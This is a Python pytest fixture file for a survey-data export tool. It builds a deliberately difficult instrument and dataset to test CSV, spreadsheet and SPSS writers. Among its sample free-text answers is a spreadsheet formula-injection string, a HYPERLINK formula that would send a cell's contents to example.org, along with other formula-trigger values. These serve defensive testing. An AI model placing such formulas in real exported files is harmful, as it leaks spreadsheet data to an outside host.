"""A dataset with all that is hard to write into files, and the folder of all files made from it."""

from __future__ import annotations

import dataclasses
from collections.abc import Callable
from datetime import date, timedelta
from pathlib import Path

import pytest

from analysis import dataset as datasets
from analysis.dataset import Dataset
from analysis.files import Written, write_files
from analysis.files.coded import Coded, coded
from analysis.files.variables import Material, material
from analysis.wording import Words
from survey.model import Instrument, Item, Library, Option, Section, with_origin
from survey.records import Answer, Participation, Submission, SubmissionKey
from tests.analysis.vocabulary import item, options, same

MADE = "2026-12-15T06:00:00.000Z"
FORMULA = '=HYPERLINK("http://example.org/?x="&A1;"Ä")'
LONG = "€" * 11_000
"""33,000 bytes, and 11,000 letters."""
LONGER = "ä" * 33_000
WORDS = (
    FORMULA, "+358 40 1234567", "-91", "@SUM(A1)", "  =1+1", "#N/A", "NA", "NULL", 'sanoi "ei", niin', "rivi\nvaihtui\r\nkahdesti",
    "puoli;piste", "it's", "tab\tulaattori", "\x0bmerkki", LONG, LONGER, "😀 hymyili", "كلمة", "007", "1e5", "true", "'", "tavallinen sana",
)  # fmt: skip
"""What somebody can write into an open question."""
STEM = "Kuinka hyvin seuraavat asiat pitävät paikkansa omassa elämässäsi juuri nyt – " * 4


class Echo(dict[str, str]):
    """Messages in a language that says everything as English does."""

    def get(self, key: str, default: object = None) -> str:  # type: ignore[override]
        return key


def hard(version: int = 1) -> Instrument:
    """An instrument whose ids are words of SPSS, whose texts are long, and that asks for what is below zero."""
    degrees = Item(id="degrees", type="integer", text=same("Lämpötila"), minimum=-400, maximum=60)
    words = (Option(value="no", label=same("Ei")), Option(value="yes", label=same("Kyllä – " + "ä" * 70)))
    pick = (
        Option(value=5, label=same("Viisi")),
        Option(value="a", label=same("Aa")),
        Option(value="b", label=same("Aa")),
    )
    items = (
        item("to", "likert", options=options(1, 2, 3, missing=9)),
        item("with", "single", options=words),
        item("which", "dropdown", options=(*pick, Option(value="dk", label=same("En osaa sanoa"), missing="dont_know"))),
        Item(id="stem", type="likert", text=same(STEM + ("uusi" if version == 2 else "")), options=options(1, 2)),
        degrees,
        item("share", "decimal", minimum=-1, maximum=1, decimals=3),
        item("seen", "date"),
        item("moon", "month"),
        item("bell", "time"),
        item("story2", "long_text"),
        item(f"a{'b' * 39}", "multiple", options=options("c" * 40, "c" * 39 + "d")),
    )  # fmt: skip
    return Instrument(
        instrument="vaikea", version=version, languages=("sv", "fi", "en") if version == 1 else ("sv",),
        title=same("Vaikea") if version == 1 else {"sv": "Svår"}, waves=("start", "end"), sections=(Section(items=items),),
    )  # fmt: skip


def _answers(n: int) -> dict[str, Answer]:
    """What one of them answered; some skip some."""
    every: dict[str, Answer] = {
        "to": 1 + n % 3, "with": ("yes", "no")[n % 2], "which": (5, "a", "b")[n % 3], "stem": 1 + n % 2,
        "degrees": -400 + 20 * n, "share": (n - 10) / 1000, "seen": str(date(1930, 2, 28) + timedelta(days=997 * n)),
        "moon": f"2026-{1 + n % 12:02}", "bell": f"{n % 24:02}:{(7 * n) % 60:02}", "story2": WORDS[n],
        f"a{'b' * 39}": ["c" * 40] if n % 2 else ["c" * 40, "c" * 39 + "d"],
    }  # fmt: skip
    return every if n % 5 else {id: answer for id, answer in every.items() if id in ("story2", "to")}


def _absent(instrument: Instrument, answers: dict[str, Answer], n: int) -> dict[str, str]:
    reasons = {"which": "dont_know", "degrees": "not_shown"}
    left = [one.id for one in instrument.items() if one.id not in answers]
    return {id: reasons.get(id, "skipped") for id in left}


@pytest.fixture(scope="session")
def hard_library(library: Library) -> Library:
    instruments = {one.key: with_origin(one) for one in (hard(), hard(2))}
    return dataclasses.replace(library, instruments={**library.instruments, **instruments})


@pytest.fixture(scope="session")
def hard_dataset(
    hard_library: Library, people: list[Participation], records: list[tuple[SubmissionKey, Submission]],
    tmp_path_factory: pytest.TempPathFactory,
) -> Dataset:  # fmt: skip
    """Some of the usual answers, and those to the hard instrument of as many people as there are hard words."""
    known = {person.id: entry for entry in records if (person := _person(entry, people)) is not None}
    found = [*records[:150]]
    for n, person in enumerate(people[: len(WORDS)]):
        answers, instrument = _answers(n), hard_library.instruments[f"vaikea@{1 + n % 2}"]
        model = next(iter(known.values()))[1]
        one = dataclasses.replace(
            model, id=f"hard{n:03}", participation=None if n == 3 else person.id, service=person.service, instrument="vaikea",
            version=instrument.version, wave="start", received="2026-02-01T22:30:00.123Z", answers=answers,
            absent=_absent(instrument, answers, n),
        )  # fmt: skip
        found.append((SubmissionKey(one.owner, "vaikea", "start", 1), one))
    folder = tmp_path_factory.mktemp("hard") / "dataset"
    people = [
        dataclasses.replace(p, end="2026-05-01", exit_reason="work") if n % 3 else p for n, p in enumerate(people)
    ]
    in_order = sorted(found, key=lambda entry: (entry[0].owner, entry[0].instrument, entry[0].wave))
    datasets.write(folder, library=hard_library, participations=people, submissions=in_order, made=MADE)
    return datasets.read(folder)


def _person(entry: tuple[SubmissionKey, Submission], people: list[Participation]) -> Participation | None:
    return next((person for person in people if person.id == entry[1].participation), None)


@pytest.fixture(scope="session")
def hard_material(hard_dataset: Dataset) -> Material:
    return material(hard_dataset, Words("fi", Echo()))


@pytest.fixture(scope="session")
def hard_coded(hard_material: Material) -> Coded:
    return coded(hard_material)


@pytest.fixture(scope="session")
def folder(hard_dataset: Dataset, tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Written]:
    """All files of the hard dataset, with Finnish labels."""
    output = tmp_path_factory.mktemp("files") / "files"
    return output, write_files(hard_dataset, output, language="fi", messages=Echo(), made=MADE)


Told = Callable[[Written], list[str]]


def told(written: Written) -> list[str]:
    """What a writing told, as sentences."""
    return [str(note) for note in written.notes]
